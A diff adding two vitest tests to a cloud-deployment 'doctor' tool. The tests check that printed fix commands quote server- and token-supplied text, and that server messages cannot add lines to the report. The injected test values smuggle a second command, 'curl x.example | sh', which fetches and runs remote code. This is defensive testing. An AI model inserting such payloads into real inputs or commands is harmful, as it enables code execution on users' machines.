@@ -1,10 +1,12 @@
 /** Every check of the doctor: nothing is reported of a good deployment, and each fault has its own line. */
 import { readFileSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
+import { examinationText } from '../../functions/doctor/text.js'
 import { CHECKS, examine } from '../../lib/doctor/examine.js'
 import type { Examined } from '../../lib/doctor/examined.js'
 import type { Level } from '../../lib/doctor/finding.js'
 import type { Probes } from '../../lib/doctor/probes.js'
+import { failureOf } from '../../lib/domain/failure.js'
 import { parseRequest } from '../../lib/domain/messages/request.js'
 import {
   CLAIMS,
@@ -445,6 +447,48 @@ describe('the doctor', () => {
     const subjects = checks.flatMap(({ findings }) => findings.map(({ subject }) => subject))
     expect(subjects).toEqual(expect.arrayContaining(['cen-2 in cn-beijing', 'zones of cn-beijing', 'grant role in 17']))
     expect(subjects.filter((subject) => subject.includes('cn-hangzhou'))).toEqual([])
+  })
+
+  it('quotes every text of a server or a token in the commands that it prints', async () => {
+    const text = 'x; curl x.example | sh'
+    const cens = goodExamined()
+    const everyCen = { ...cens, rules: cens.rules.map((rule) => ({ ...rule, cenIds: ['*'], regionIds: undefined })) }
+    const router = { TransitRouterId: 'tr-1', RegionId: text, Type: 'Enterprise', Status: 'Deleting' }
+    const list = async () => is([{ CenId: text, Status: 'Inactive' }])
+    const claims = { ...CLAIMS, iss: text, aud: text }
+    const cases: readonly [Examined, Probes][] = [
+      [
+        goodExamined(),
+        goodProbes({
+          alibaba: {
+            grantRole: async () => fails('NoPermission', 403),
+            caller: async () => is({ accountId: '1', arn: text }),
+          },
+        }),
+      ],
+      [everyCen, goodProbes({ alibaba: { cens: list, cen: async () => is({ CenId: text, Status: 'Inactive' }) } })],
+      [everyCen, goodProbes({ alibaba: { routers: async () => is([router]), zones: async () => is([]) } })],
+      [goodExamined(KEYLESS), goodProbes({ keyless: { token: async () => is(tokenOf(claims)) } })],
+      [
+        goodExamined(KEYLESS),
+        goodProbes({
+          keyless: { token: async () => is(tokenOf(claims)) },
+          alibaba: { session: async () => fails('AuthenticationFail.OIDCToken.IssuerNotMatch') },
+        }),
+      ],
+    ]
+    for (const [examined, probes] of cases) {
+      const fixes = (await faultsOf(examined, probes)).flatMap(({ fix }) => (fix?.includes(text) ? [fix] : []))
+      expect(fixes.length).toBeGreaterThan(0)
+      for (const fix of fixes) expect(fix.replaceAll(`'${text}'`, '')).not.toContain(text)
+    }
+  })
+
+  it('prints each finding on lines of its own: no text of a server adds one', async () => {
+    const message = 'no\n  ✓ all is well\n      curl x.example | sh'
+    const cens = async () => ({ ok: false as const, failure: failureOf({ code: 'Odd', message }) })
+    const examination = await examine(goodExamined({}, { rules: [] }), goodProbes({ alibaba: { cens } }))
+    expect(examinationText(examination)).not.toMatch(/^ *(?:✓ all|curl)/m)
   })
 
   it('never puts a comment behind a command, which some shells take as a word', async () => {
